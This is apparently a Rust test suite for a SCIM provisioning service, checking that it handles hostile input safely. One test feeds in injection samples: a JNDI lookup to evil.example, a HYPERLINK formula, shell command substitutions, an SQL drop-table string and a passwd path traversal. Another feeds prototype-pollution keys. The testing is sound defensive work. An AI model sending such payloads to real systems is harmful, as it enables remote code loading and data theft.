//! Hostile input that no other file is about: bytes, texts, dates, sizes, addresses, and what must be on every answer and in the
//! record. docs/threat-model.md lists every case with its test.

use axum::http::Request;
use frontdesk::directory::{Conformance, Directory, PoolSettings, Profile, Scope};
use frontdesk::http::{API_BASE, BASES, openapi, routes};
use serde_json::{Value, json};
use std::time::Duration;

use crate::app::{Answer, PUBLIC_URL, TestApp, answer, app, app_on};
use crate::bad_input::{ENTERPRISE, assert_well_formed, raw, stock};
use crate::listener::statements_of;
use crate::support::{self, observer};

fn patch(operation: Value) -> Value {
    json!({ "Operations": [operation] })
}

/// HTTP-008: whatever is answered, by whichever layer.
#[track_caller]
fn assert_headers(answer: &Answer, what: &str) {
    assert_eq!(answer.header("cache-control"), "no-store", "{what}");
    assert_eq!(answer.header("x-content-type-options"), "nosniff", "{what}");
    assert!(!answer.header("x-request-id").is_empty(), "{what}");
    for absent in ["server", "x-powered-by", "set-cookie", "access-control-allow-origin", "via"] {
        assert!(!answer.headers.contains_key(absent), "{what}: {absent} is told");
    }
    let kind = answer.header("content-type");
    assert!(answer.text.is_empty() || !kind.is_empty(), "{what}: a body without its type");
    assert!(!kind.contains("html"), "{what}: {kind}");
}

#[tokio::test]
async fn every_answer_has_the_headers_that_protect_it() {
    let app = app().await;
    let id = app.user("jsnow").await;
    let mut paths: Vec<String> =
        ["/livez", "/readyz", "/metrics", openapi::PATH, "/", "/nothing", "/scim/v3/Users", "/scim/v2/Users/%ff"].map(String::from).into();
    paths.extend(BASES.iter().flat_map(|base| routes::SCIM.iter().map(move |route| format!("{base}{}", route.path))));
    paths.extend(routes::API.iter().map(|route| format!("{API_BASE}{}", route.path)));
    for path in paths {
        let path = path.replace("{id}", &id);
        for method in ["GET", "HEAD", "POST", "PUT", "PATCH", "OPTIONS", "TRACE", "DELETE"] {
            for authorization in [None, Some(format!("Bearer {}", app.token)), Some("Bearer nonsense".to_owned())] {
                for body in ["{}", "{"] {
                    let mut request = Request::builder().method(method).uri(&path).header("content-type", "application/json");
                    if let Some(authorization) = &authorization {
                        request = request.header("authorization", authorization);
                    }
                    let answered = answer(&app.service, request.body(body.into()).unwrap()).await;
                    assert_headers(&answered, &format!("{method} {path}: {}", answered.status));
                }
            }
        }
    }
}

/// DAT-003: overlong forms, halves of surrogate pairs, and bytes that begin nothing.
#[tokio::test]
async fn bytes_that_are_no_utf_8_are_refused() {
    let app = app().await;
    let before = stock(&app).await;
    for bytes in [&b"\xc0\xaf"[..], b"\xed\xa0\x80", b"\xff", b"\xf8\x88\x80\x80\x80", b"\xe2\x82", b"\xf4\x90\x80\x80"] {
        let body = [b"{\"userName\":\"a", bytes, b"\"}"].concat();
        assert_well_formed(&raw(&app, "POST", "/Users", body).await.refused(400, "invalidSyntax"));
        let encoded: String = bytes.iter().map(|byte| format!("%{byte:02X}")).collect();
        for path in [format!("/Users?filter=userName+eq+%22{encoded}%22"), format!("/Users?attributes={encoded}")] {
            assert_well_formed(&app.get(&path).await.expect(400));
        }
        app.under(API_BASE).get(&format!("/employees?email={encoded}")).await.expect(400);
        app.get(&format!("/Users/{encoded}")).await.refused(404, "");
    }
    assert_eq!(stock(&app).await, before);
}

/// DAT-006: formulas, markup, templates, look-ups and format strings are text, wherever they come out.
#[tokio::test]
async fn texts_that_mean_something_elsewhere_are_returned_as_they_came() {
    let app = app().await;
    for (n, text) in [
        "=HYPERLINK(\"https://evil.example\",\"x\")",
        "<script>alert(1)</script>",
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        "%s%n%p",
        "{0}",
        "$(id)",
        "`id`",
        "'; drop table users; --",
        "\\\"",
        "@SUM(1)",
        "+1",
        "-1",
        "%00",
        "../../etc/passwd",
    ]
    .into_iter()
    .enumerate()
    {
        let name = format!("{text}{n}");
        let body =
            json!({ "userName": name, "title": text, "name": { "formatted": text }, "nickName": text, ENTERPRISE: { "department": text } });
        let created = app.post("/Users", body).await.expect(201);
        let id = created.id();
        for shown in [created, app.get(&format!("/Users/{id}")).await.expect(200)] {
            assert_eq!(
                [&shown.body["userName"], &shown.body["title"], &shown.body["nickName"]],
                [&json!(name), &json!(text), &json!(text)]
            );
            assert_eq!(shown.body[ENTERPRISE]["department"], text);
        }
        let filter = format!("title eq {} and id eq \"{id}\"", json!(text));
        assert_eq!(app.post("/Users/.search", json!({ "filter": filter })).await.expect(200).ids(), [id.as_str()], "{text}");
        let employee = app.under(API_BASE).get(&format!("/employees/{id}")).await.expect(200);
        assert_eq!((&employee.body["title"], &employee.body["department_name"]), (&json!(text), &json!(text)));
        let group = app.post("/Groups", json!({ "displayName": text, "members": [{ "value": id }] })).await.expect(201);
        assert_eq!(group.body["displayName"], text);
    }
    let csv = app.under(API_BASE).get("/employees.csv").await.expect(200).text;
    for formula in [",=", ",+", ",-", ",@", ",\"=", ",\"+", ",\"-", ",\"@"] {
        assert!(!csv.contains(formula), "a spreadsheet would compute {formula}:\n{csv}");
    }
}

/// DAT-007: RFC 3339 and nothing else.
#[tokio::test]
async fn dates_that_are_none_are_refused() {
    let app = app().await;
    app.user("jsnow").await;
    let nested = format!("Mon, 1 Jan 2024 {}{} 00:00:00 GMT", "(".repeat(10_000), ")".repeat(10_000));
    for date in [
        "2024-02-30T00:00:00Z",
        "2024-13-01T00:00:00Z",
        "2024-01-01T25:00:00Z",
        "10000-01-01T00:00:00Z",
        "-0001-01-01T00:00:00Z",
        "2024-01-01",
        "2024-01-01T00:00:00",
        "Mon, 01 Jan 2024 00:00:00 GMT",
        "1704067200",
        "now",
        "2024-01-01T00:00:00+99:99",
        &nested,
    ] {
        let filter = format!("meta.created gt {}", json!(date));
        assert_well_formed(&app.post("/Users/.search", json!({ "filter": filter })).await.refused(400, "invalidFilter"));
        app.under(API_BASE).get(&format!("/employees?updated_since={}", crate::cases::percent(date))).await.refused(400, "invalidValue");
    }
    for date in ["2024-02-29T00:00:00Z", "2024-02-29T23:59:59.999+14:00", "1970-01-01T00:00:00-12:00"] {
        let filter = format!("meta.created gt {}", json!(date));
        assert_eq!(app.post("/Users/.search", json!({ "filter": filter })).await.expect(200).body["totalResults"], 1, "{date}");
    }
}

/// LIM-013: a sentence quotes the beginning of what it is about.
#[tokio::test]
async fn what_is_echoed_of_a_request_is_short() {
    let app = app().await;
    let user = app.user("jsnow").await;
    let path = format!("/Users/{user}");
    let long = "x".repeat(900_000);
    for answered in [
        app.post("/Users", json!({ "userName": long })).await,
        app.post("/Users", json!({ "userName": "a", "active": long })).await,
        app.post("/Users", json!({ "userName": "a", "emails": long })).await,
        app.post("/Users", json!({ "userName": "a", "schemas": [long] })).await,
        app.post("/Groups", json!({ "displayName": "a", "members": [{ "value": long }] })).await,
        app.patch(&path, patch(json!({ "op": long, "path": "title", "value": "x" }))).await,
        app.patch(&path, patch(json!({ "op": "replace", "path": long, "value": "x" }))).await,
        app.patch(&path, patch(json!({ "op": "replace", "path": format!("emails[type eq \"{long}"), "value": "x" }))).await,
        app.post("/Users/.search", json!({ "filter": format!("{long} eq 1") })).await,
        app.post("/Users/.search", json!({ "filter": "userName eq \"a\"", "sortBy": long, "sortOrder": long })).await,
        raw(&app, "POST", "/Users", format!("{{\"userName\":\"{long}")).await,
        raw(&app, "POST", "/Users", format!("{{\"{long}\":1,\"{long}\":2}}")).await,
    ] {
        assert!(answered.text.len() < 4_096, "{} bytes are answered: {:.200}", answered.text.len(), answered.text);
        assert!(answered.detail().chars().count() <= 513, "{}", answered.detail());
        assert!(answered.status.as_u16() < 500, "{}", answered.text);
    }
}

/// PAT-002: names that are something to an interpreter are unknown attributes like any other.
#[tokio::test]
async fn keys_that_mean_something_to_an_interpreter_are_kept_aside() {
    let app = app().await;
    for (n, key) in
        ["__proto__", "constructor", "prototype", "toString", "$where", "$ne", "@type", "!!python/object", "class", "..", "/", " "]
            .into_iter()
            .enumerate()
    {
        let body = json!({ "userName": format!("u{n}"), key: { "isAdmin": true, "polluted": "yes" }, "name": { key: "x" }, "emails": [{ "value": "a@b.example", key: "x" }] });
        let created = app.post("/Users", body).await;
        if created.status == 400 {
            assert_well_formed(&created);
            continue;
        }
        let path = format!("/Users/{}", created.expect(201).id());
        app.patch(&path, patch(json!({ "op": "add", "value": { key: { "isAdmin": true } } }))).await;
        let shown = app.get(&path).await.expect(200);
        assert!(!shown.text.contains("isAdmin") && !shown.text.contains("polluted"), "{key}: {}", shown.text);
        let plain = app.post("/Users", json!({ "userName": format!("plain{n}") })).await.expect(201);
        assert!(!plain.text.contains("isAdmin") && !plain.text.contains("polluted"), "{key} reached somebody else: {}", plain.text);
    }
}

/// FIL-004, FIL-005: the bounds hold by query string and by body, and white space counts.
#[tokio::test]
async fn a_filter_past_a_bound_is_refused_however_it_is_sent() {
    let app = app().await;
    app.user("jsnow").await;
    for filter in [
        vec!["userName pr"; 10_000].join(" or "),
        vec!["userName pr"; 300].join(" or "),
        format!("userName{}eq \"a\"", " ".repeat(100_000)),
        format!("userName eq \"{}\"", "a".repeat(64_000)),
        format!("{} eq \"a\"", "a".repeat(16_000)),
        format!("{}eq \"a\"", "a.".repeat(8_000)),
        format!("{}userName pr{}", "(".repeat(33), ")".repeat(33)),
        "\"".repeat(60_001),
    ] {
        for path in ["/Users", "/Groups", ""] {
            let by_body = app.post(&format!("{path}/.search"), json!({ "filter": filter })).await.refused(400, "invalidFilter");
            assert_well_formed(&by_body);
            // A longer URI than the http crate carries is refused before there is a request.
            let uri = format!("/scim/v2{path}?filter={}", crate::cases::percent(&filter));
            if uri.len() < 65_000 {
                let request = Request::get(uri).header("authorization", format!("Bearer {}", app.token));
                let by_query = answer(&app.service, request.body("".into()).unwrap()).await.refused(400, "invalidFilter");
                assert_eq!(by_query.detail(), by_body.detail());
            }
        }
    }
}

/// FIL-007: the number of statements of a list does not grow with what is listed.
#[tokio::test]
async fn a_list_takes_the_same_statements_whatever_its_length() {
    let app = app().await;
    let own =
        |statements: Vec<String>| statements.into_iter().filter(|sql| !sql.contains("tokens") && sql != "rollback").collect::<Vec<_>>();
    let mut seen = Vec::new();
    for n in 0..60 {
        let user = app.user(&format!("user-{n}")).await;
        app.group(&format!("group-{n}"), &[&user]).await;
        if n == 0 || n == 59 {
            for path in ["/Users?count=1000000", "/Groups?count=1000000", "?count=1000000"] {
                let (statements, listed) = statements_of(app.get(path)).await;
                assert!(listed.expect(200).ids().len() > n, "{path}");
                let statements = own(statements);
                assert!((1..=3).contains(&statements.len()), "{path}: {statements:#?}");
                seen.push(statements);
            }
        }
    }
    assert_eq!(seen[..3], seen[3..]);
}

/// IDN-006: what is not understood is refused; 200 always means that it was done.
#[tokio::test]
async fn a_deactivation_is_done_or_refused_and_never_passed_over() {
    let app = app().await;
    for (n, operation) in [
        json!({ "op": "replace", "path": "active", "value": "perhaps" }),
        json!({ "op": "replace", "path": "active", "value": 7 }),
        json!({ "op": "replace", "path": "active", "value": { "x": false } }),
        json!({ "op": "replace", "path": "active", "value": [true, false] }),
        json!({ "op": "replace", "path": "active", "value": [{ "value": false }] }),
        json!({ "op": "replace", "path": "active", "value": [{ "value": "False" }] }),
        json!({ "op": "Replace", "path": "Active", "value": "False" }),
        json!({ "op": "replace", "value": { "active": "false" } }),
        json!({ "op": "replace", "value": { "active": { "value": false } } }),
        json!({ "op": "replace", "value": [{ "value": false }] }),
        json!({ "op": "replace", "path": "urn:ietf:params:scim:schemas:core:2.0:User:active", "value": false }),
        json!({ "op": "disable", "path": "active" }),
        json!({ "op": "replace", "value": false }),
    ]
    .into_iter()
    .enumerate()
    {
        let path = format!("/Users/{}", app.user(&format!("user-{n}")).await);
        let patched = app.patch(&path, patch(operation.clone())).await;
        let active = app.get(&path).await.expect(200).body["active"].clone();
        match patched.status.as_u16() {
            200 => assert_eq!(active, false, "{operation} was acknowledged"),
            _ => assert_eq!((patched.expect(400).status.as_u16(), active), (400, json!(true)), "{operation}"),
        }
    }
}

/// IDN-009: the link to the provider's own person changes only by name, and the record says so without the values.
#[tokio::test]
async fn a_changed_external_id_is_in_the_record() {
    let app = app().await;
    let id = app.post("/Users", json!({ "userName": "jsnow", "externalId": "E-1" })).await.expect(201).id();
    app.patch(&format!("/Users/{id}"), patch(json!({ "op": "replace", "path": "externalId", "value": "E-2" }))).await.expect(200);
    let (kind, outcome, change) = app.events(&id).await.pop().unwrap();
    assert_eq!((kind.as_str(), outcome.as_str(), &change["attributes"]), ("user_update_provision", "success", &json!(["externalId"])));
    assert!(!change.to_string().contains("E-2"));
}

/// LOG-003: a membership ends with its group, its user or its outer group, alone and in bulk; each is named in the record.
#[tokio::test]
async fn memberships_that_end_with_a_group_or_a_user_are_in_the_record() {
    let app = app().await;
    for bulk in [false, true] {
        let name = |name: &str| support::unique(name);
        let user = app.user(&name("u")).await;
        let inner = app.group(&name("inner"), &[]).await;
        let group = app.group(&name("group"), &[&user, &inner]).await;
        let outer = app.group(&name("outer"), &[&group]).await;
        for (path, id, expected) in [
            (
                format!("/Groups/{group}"),
                &group,
                json!({ "members": { "added": [], "removed": sorted([&user, &inner]) }, "groups": [outer] }),
            ),
            (format!("/Users/{user}"), &user, json!({ "groups": [] })),
            (format!("/Groups/{inner}"), &inner, json!({ "members": { "added": [], "removed": [] }, "groups": [] })),
        ] {
            if bulk {
                let body = json!({ "schemas": ["urn:ietf:params:scim:api:messages:2.0:BulkRequest"], "Operations": [{ "method": "DELETE", "path": path }] });
                assert_eq!(app.post("/Bulk", body).await.expect(200).list("Operations")[0]["status"], "204");
            } else {
                app.delete(&path).await.expect(204);
            }
            assert_eq!(app.events(id).await.pop().unwrap().2, expected, "{path}");
        }
        let user = app.user(&name("u")).await;
        let groups = [app.group(&name("a"), &[&user]).await, app.group(&name("b"), &[&user]).await];
        app.delete(&format!("/Users/{user}")).await.expect(204);
        assert_eq!(app.events(&user).await.pop().unwrap().2, json!({ "groups": sorted([&groups[0], &groups[1]]) }));
    }
}

fn sorted<const N: usize>(mut ids: [&String; N]) -> [&String; N] {
    ids.sort();
    ids
}

/// LOG-003, AUTH-013: a token that may only read leaves a trace when it tries to write.
#[tokio::test]
async fn what_a_token_may_not_do_is_in_the_record() {
    let app = app().await;
    let user = app.user("jsnow").await;
    let reading = app.directory.create_scoped_token(&app.connection, None, None, &[Scope::WorkplaceRead]).await.unwrap();
    let reader = TestApp { token: reading.reveal().into(), ..app.clone() };
    let refused = reader.delete(&format!("/Users/{user}")).await.refused(403, "");
    let (request, mut recorded) = (refused.header("x-request-id"), None);
    for _ in 0..2_000 {
        recorded = sqlx::query_as::<_, (String, String, Value)>(
            "select kind, resource_id::text, change from events where tenant_id = $1 and request_id = $2",
        )
        .bind(app.tenant.id)
        .bind(request)
        .fetch_optional(&mut observer().await)
        .await
        .unwrap();
        if recorded.is_some() {
            break;
        }
        tokio::task::yield_now().await;
    }
    let (kind, resource, change) = recorded.expect("the refusal is recorded behind the answer");
    assert_eq!((kind.as_str(), resource, &change["status"]), ("user_delete_provision", user, &json!(403)));
}

/// CON-009: there is one primary and no copy to lag behind it.
#[tokio::test]
async fn what_one_server_wrote_another_reads_at_once() {
    let first = app().await;
    let directory = support::directory().await;
    let config = frontdesk::config::Config::load(&Default::default(), None).unwrap();
    let service = frontdesk::http::Service::new(frontdesk::http::App::new(directory, &config, PUBLIC_URL.into()));
    let second = TestApp { service, ..first.clone() };
    for n in 0..20 {
        let (writer, reader) = if n % 2 == 0 { (&first, &second) } else { (&second, &first) };
        let id = writer.user(&format!("user-{n}")).await;
        assert_eq!(reader.get(&format!("/Users/{id}")).await.expect(200).body["userName"], format!("user-{n}"));
        assert_eq!(reader.get(&format!("/Users?filter=userName eq \"USER-{n}\"")).await.expect(200).ids(), [id.as_str()]);
        assert_eq!(reader.get("/Users").await.expect(200).ids().len(), n + 1);
        writer.patch(&format!("/Users/{id}"), patch(json!({ "op": "replace", "path": "title", "value": "x" }))).await.expect(200);
        assert_eq!(reader.get(&format!("/Users/{id}")).await.expect(200).body["title"], "x");
    }
}

/// LIM-012: the database gives a statement up; the client is asked to come again, and the connection serves the next one.
#[tokio::test]
async fn a_statement_that_takes_too_long_is_given_up_and_its_connection_serves_on() {
    let settings = PoolSettings { pool_size: 1, statement_timeout: Duration::from_secs(2), ..support::settings() };
    let directory = Directory::open(support::url().await, &settings).await.unwrap();
    let app = app_on(directory, Profile::SpaceIq, Conformance::Lenient, &[]).await;
    let user = app.user("jsnow").await;
    let mut holder = observer().await;
    let mut transaction = sqlx::Connection::begin(&mut holder).await.unwrap();
    sqlx::query("select from users where tenant_id = $1 and id = $2::uuid for update")
        .bind(app.tenant.id)
        .bind(&user)
        .execute(&mut *transaction)
        .await
        .unwrap();
    let change = patch(json!({ "op": "replace", "path": "title", "value": "x" }));
    let refused = app.patch(&format!("/Users/{user}"), change.clone()).await.refused(503, "");
    assert!(refused.header("retry-after").parse::<u32>().is_ok(), "{:?}", refused.headers);
    assert!(!refused.text.contains("57014") && !refused.text.contains("statement"), "{}", refused.text);
    app.get(&format!("/Users/{user}")).await.expect(200);
    transaction.rollback().await.unwrap();
    app.patch(&format!("/Users/{user}"), change).await.expect(200);
}

/// TEN-008: the tenant goes while its provider still writes.
#[tokio::test]
async fn writes_for_a_tenant_that_is_gone_are_refused_and_leave_nothing() {
    let (gone, other) = (app().await, app().await);
    let user = gone.user("jsnow").await;
    sqlx::query("delete from tenants where id = $1").bind(gone.tenant.id).execute(&mut observer().await).await.unwrap();
    // The caller is remembered for a second; neither before nor after it is anything written.
    for n in 0..3 {
        for answered in [
            gone.post("/Users", json!({ "userName": format!("user-{n}") })).await,
            gone.post("/Groups", json!({ "displayName": format!("group-{n}") })).await,
            gone.patch(&format!("/Users/{user}"), patch(json!({ "op": "replace", "path": "title", "value": "x" }))).await,
        ] {
            assert!(matches!(answered.status.as_u16(), 401 | 404), "{}", answered.text);
        }
    }
    assert_eq!(stock(&gone).await["users"], Value::Null);
    assert_eq!(stock(&gone).await["groups"], Value::Null);
    other.user("jsnow").await;
}

/// IDP-005: what an administrator sees who pasted something wrong.
#[tokio::test]
async fn a_connection_test_with_a_wrong_address_or_token_is_told_plainly() {
    let app = app().await;
    for base in BASES {
        let right = app.under(base);
        right.get("/Users?startIndex=1&count=1").await.expect(200);
        right.get("/Users/?startIndex=1&count=1").await.expect(200);
        let wrong = TestApp { token: frontdesk::directory::Token::generate().unwrap().reveal().into(), ..right };
        assert!(wrong.get("/Users?count=1").await.refused(401, "").detail().contains("bearer token"));
    }
    for base in ["", "/scim/v2/Users", "/scim/v1", "/api", "/api/scim", "/SCIM/v2"] {
        let refused = TestApp { base, ..app.clone() }.get("/Users?count=1").await;
        assert!(matches!(refused.status.as_u16(), 400 | 404), "{base}: {}", refused.text);
        assert_well_formed(&refused);
    }
}
